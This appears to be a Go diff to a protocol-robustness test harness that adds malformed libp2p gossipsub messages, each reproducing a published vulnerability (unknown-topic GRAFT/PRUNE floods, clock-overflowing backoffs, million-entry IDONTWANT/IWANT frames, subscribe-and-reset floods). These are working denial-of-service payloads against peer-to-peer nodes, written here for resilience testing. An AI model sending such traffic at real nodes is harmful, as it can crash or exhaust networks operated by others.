@@ -2,6 +2,7 @@ package main
 
 import (
 	"encoding/binary"
+	"math"
 	"time"
 )
 
@@ -11,7 +12,10 @@ const (
 	maxRPC        = 10 << 20
 	ihave, iwant  = 1, 2
 	graft, prune  = 3, 4
-	control       = 3 // of an RPC
+	idontwant     = 5
+	extensions    = 6
+	partial       = 10 // of an RPC
+	control       = 3  // of an RPC
 	published     = 2
 	subscriptions = 1
 )
@@ -35,6 +39,16 @@ func rpc(contents func() []byte) func(*attack) error {
 	})
 }
 
+// freshRPC is the same with other contents in each frame.
+func freshRPC(contents func() []byte) func(*attack) error {
+	return onStreams(gossip, func(t *stream) error {
+		if err := t.write(lengthPrefixed(subscription(topic))); err != nil {
+			return err
+		}
+		return t.session.again(func(int) error { return t.write(lengthPrefixed(contents())) })
+	})
+}
+
 // aMillion is a case of 10^6 entries of a kind in one frame: they are above what is taken, so the node resets the stream.
 func aMillion(kind uint64) torment {
 	return torment{ends: endured, reaches: layerStream, written: maxControl, hears: "resets",
@@ -55,6 +69,87 @@ func most(hears string, entry func() []byte) torment {
 	return torment{ends: endured, reaches: layerStream, written: maxControl, hears: hears,
 		run: rpc(func() []byte { return field(control, fill(entry)) })}
 }
+
+// publishedFaults are what was found in other implementations: each case is one that has brought a router down, or made it grow.
+var publishedFaults = map[string]torment{
+	// GRAFT for topics that nobody has heard of, each of which made a table grow (GHSA-g3g5-x568-qvqx). The first GRAFT is for
+	// the topic that the node is in: messages show that the router has read it.
+	"gossip-graft-unknown-topics": {ends: endured, reaches: layerStream, written: maxControl, hears: "messages",
+		run: freshRPC(func() []byte {
+			entry := func() []byte { return field(graft, field(1, noise(8))) }
+			return field(control, append(field(graft, field(1, []byte(topic))), fill(entry)...))
+		})},
+	// PRUNE for topics that the node never joined, each of which left a backoff behind (GHSA-vrx6-jcp8-vm7m).
+	"gossip-prune-unknown-topics": {ends: endured, reaches: layerStream, written: maxControl, hears: "messages",
+		run: freshRPC(func() []byte {
+			entry := func() []byte { return field(prune, append(field(1, noise(8)), backoff(60)...)) }
+			return field(control, append(field(graft, field(1, []byte(topic))), fill(entry)...))
+		})},
+	// A backoff that overflows the clock (CVE-2026-33040), then a GRAFT that looks at it. The node prunes in answer.
+	"gossip-prune-longest-backoff": {ends: endured, reaches: layerStream, written: 10_000, hears: "prune",
+		run: rpc(func() []byte { return field(control, longBackoffs(math.MaxUint64, math.MaxUint64/2, math.MaxInt64)) })},
+	// Backoffs that fit into the clock's type, but no longer when slack is added to them at a heartbeat or for a GRAFT.
+	"gossip-prune-backoff-beside-the-end-of-time": {ends: endured, reaches: layerStream, written: 10_000, hears: "prune",
+		run: rpc(func() []byte {
+			const seconds = math.MaxInt64 / 1_000_000_000
+			return field(control, longBackoffs(seconds, seconds-1, seconds-2, seconds-60, seconds-3600, seconds/2))
+		})},
+	// Topics that nobody is in, subscribed to by peers that go at once: what stays of them is never cleared up (CVE-2026-46679).
+	"gossip-subscribe-to-all-and-go": {ends: endured, reaches: layerStream, written: maxControl, run: subscribeAndGo},
+	// IDONTWANT without end, which go-libp2p-pubsub bounds since 0.12 and rust-libp2p since 0.49.
+	"gossip-million-idontwant": aMillion(idontwant),
+	"gossip-most-idontwant": {ends: endured, reaches: layerStream, written: maxControl, hears: "messages",
+		run: freshRPC(func() []byte {
+			entry := func() []byte { return field(idontwant, field(1, noise(20))) }
+			return field(control, append(field(graft, field(1, []byte(topic))), fill(entry)...))
+		})},
+	// Ids that all are in one entry, of every kind: 24 bytes of bookkeeping for two bytes on the wire (rust-libp2p 6486).
+	"gossip-million-ids-of-idontwant": {ends: endured, reaches: layerStream, written: maxControl, hears: "resets",
+		run: rpc(func() []byte { return field(control, field(idontwant, repeat(field(1, []byte{7}), million))) })},
+	"gossip-million-ids-of-iwant": {ends: endured, reaches: layerStream, written: maxControl, hears: "resets",
+		run: rpc(func() []byte { return field(control, field(iwant, repeat(field(1, []byte{7}), million))) })},
+	// The extensions of v1.3 in every RPC: they may come in the first one only.
+	"gossip-extensions-again": {ends: endured, reaches: layerStream, written: 10_000, hears: "messages", run: rpc(func() []byte {
+		return field(control, append(field(graft, field(1, []byte(topic))), field(extensions, []byte{80, 1})...))
+	})},
+	// Partial messages to a node that does not speak them: groups without end, and parts beyond what control may take.
+	"gossip-partial-groups": {ends: endured, reaches: layerStream, written: 10_000, hears: "messages", run: freshRPC(func() []byte {
+		of := append(append(field(1, []byte(topic)), field(2, noise(32))...), field(4, noise(100))...)
+		return append(field(control, field(graft, field(1, []byte(topic)))), field(partial, of)...)
+	})},
+	"gossip-partial-above-the-limit": {ends: endured, reaches: layerStream, written: maxControl, hears: "resets",
+		run: rpc(func() []byte { return field(partial, append(field(1, []byte(topic)), field(3, noise(4<<20))...)) })},
+}
+
+// backoff is the field of a PRUNE, in seconds.
+func backoff(seconds uint64) []byte { return binary.AppendUvarint([]byte{3 << 3}, seconds) }
+
+// longBackoffs prunes the node's topic for each of them, and asks to be taken in again.
+func longBackoffs(seconds ...uint64) []byte {
+	var out []byte
+	for _, each := range seconds {
+		out = append(out, field(prune, append(field(1, []byte(topic)), backoff(each)...))...)
+		out = append(out, field(graft, field(1, []byte(topic)))...)
+	}
+	return out
+}
+
+// subscribeAndGo subscribes to as many topics as fit into a frame, and resets the stream.
+var subscribeAndGo = overYamux(func(s *session) error {
+	return s.again(func(int) error {
+		t, err := s.open(gossip)
+		if err != nil {
+			return err
+		}
+		if err := t.write(lengthPrefixed(fill(func() []byte { return subscription(string(noise(8))) }))); err != nil && err != errReset {
+			return err
+		}
+		s.mutex.Lock()
+		delete(s.streams, t.id)
+		s.mutex.Unlock()
+		return s.send(frame(0, typeWindow, flagRST, t.id, 0, nil))
+	})
+})
 
 var gossipCases = map[string]torment{
 	"gossip-million-ihave": aMillion(ihave),
